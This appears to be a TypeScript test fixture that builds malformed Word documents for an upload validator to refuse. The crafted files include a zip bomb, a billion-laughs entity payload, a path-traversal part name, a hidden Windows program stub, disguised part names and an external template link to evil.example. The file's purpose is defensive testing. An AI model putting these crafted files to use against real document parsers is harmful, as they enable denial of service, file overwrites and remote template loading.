import { text } from '../sample-files.ts';
import { corpusFile, refused } from './corpus-file.ts';
import { makeDocx, paragraph, wordPart } from './make-docx.ts';
import { makeZip } from './make-zip.ts';

const billion =
  '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>';

/** The beginning of a Windows program. */
const program = text(`MZ${'x'.repeat(200)}`);

/**
 * Returns a document with references to a template on a server, in a part of this name that is
 * declared as text.
 */
function withHiddenReferences(name: string): Buffer {
  const ending = name.slice(name.lastIndexOf('.') + 1);
  return makeDocx({
    parts: {
      [name]:
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
    },
    types: `<Default Extension="${ending}" ContentType="application/xml"/>`,
  });
}

/** Word documents that are too large to unpack, damaged, or contain more than their parts. */
export const malformedDocx = [
  refused(
    'lying-size.docx',
    'A text that says it has 100 bytes and has 5 MB',
    'Unpacking ends where a part says it does',
    () =>
      makeDocx({
        body: paragraph('a'.repeat(5_000_000)),
        lies: { of: 'word/document.xml', size: 100 },
      }),
  ),
  refused('bomb.docx', 'A part of 100 MB in 100 KB', 'More than 64 MB unpacked', () =>
    makeDocx({ parts: { 'customXml/item1.xml': Buffer.alloc(100_000_000, ' ') } }),
  ),
  refused('damaged.docx', 'A text that is not what its checksum says', 'Damaged', () =>
    makeDocx({ lies: { of: 'word/document.xml', sum: 1 } }),
  ),
  refused(
    'entities.docx',
    'A text that grows when it is read (entities of its own)',
    'Document types are refused',
    () => makeDocx({ parts: { 'customXml/item1.xml': billion } }),
  ),
  refused(
    'hidden-file.docx',
    'A program between two parts, which the directory does not list',
    'No gaps',
    () => makeDocx({ lies: { of: 'word/document.xml', hidden: program } }),
  ),
  refused('hidden-at-end.docx', 'The same between the last part and the directory', 'No gaps', () =>
    makeDocx({ lies: { of: 'word/_rels/document.xml.rels', hidden: program } }),
  ),
  refused(
    'two-names.docx',
    'A part that has another name at its head than in the directory',
    'Programs go by the one or the other',
    () => makeDocx({ lies: { of: 'word/styles.xml', headed: 'word/stylez.xml' } }),
  ),
  refused(
    'renamed-in-unicode.docx',
    'A template on a server, in a part that a field beside its name calls a text',
    'Programs go by the one or the other',
    () =>
      makeDocx({
        settings: [['rId1', 'attachedTemplate', 'https://evil.example/a.dotm', 'External']],
        lies: { of: 'word/_rels/settings.xml.rels', renamed: 'customXml/item1.xml' },
      }),
  ),
  refused(
    'renamed-in-escapes.docx',
    'The same in a part whose name has a letter as an escape',
    'Programs may resolve it',
    () => withHiddenReferences('word/_rels/settings.xml.%72els'),
  ),
  refused(
    'in-pieces.docx',
    'The same in a part that is there in pieces',
    'Programs may put them together',
    () => withHiddenReferences('word/_rels/settings.xml.rels/[0].last.piece'),
  ),
  refused('part-twice.docx', 'Two parts of one name', 'Programs take the first or the last', () => {
    const again = 'word/document.xml';
    return makeDocx({
      parts: { 'word/a.xml': wordPart('document', '') },
      lies: { of: 'word/a.xml', listed: again, headed: again },
    });
  }),
  refused(
    'two-types.docx',
    'A part that is declared a header and a scrambled font',
    'Programs go by the one or the other',
    () =>
      makeDocx({
        relations: [['rId3', 'header', 'header1.xml']],
        parts: { 'word/header1.xml': wordPart('hdr', '') },
        types:
          '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/><Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>',
      }),
  ),
  refused(
    'part-elsewhere.docx',
    'A part in a folder that programs do not make',
    'Only known folders',
    () => makeDocx({ parts: { 'macros/a.xml': '<a/>' } }),
  ),
  refused(
    'climbs-out.docx',
    'A part that unpacks into another folder',
    'Such names are refused',
    () => makeDocx({ parts: { 'word/../../a.xml': '<a/>' } }),
  ),
  refused(
    'page-after.docx',
    'A page of the web after the archive',
    'Nothing may follow the end',
    () => Buffer.concat([makeDocx(), text('<script>')]),
  ),
  corpusFile(
    'archive.docx',
    'fileTypeRefused',
    'An ordinary archive under the name of a document',
    'Archives are not taken',
    () => makeZip({ 'cv.txt': 'hello' }),
  ),
];
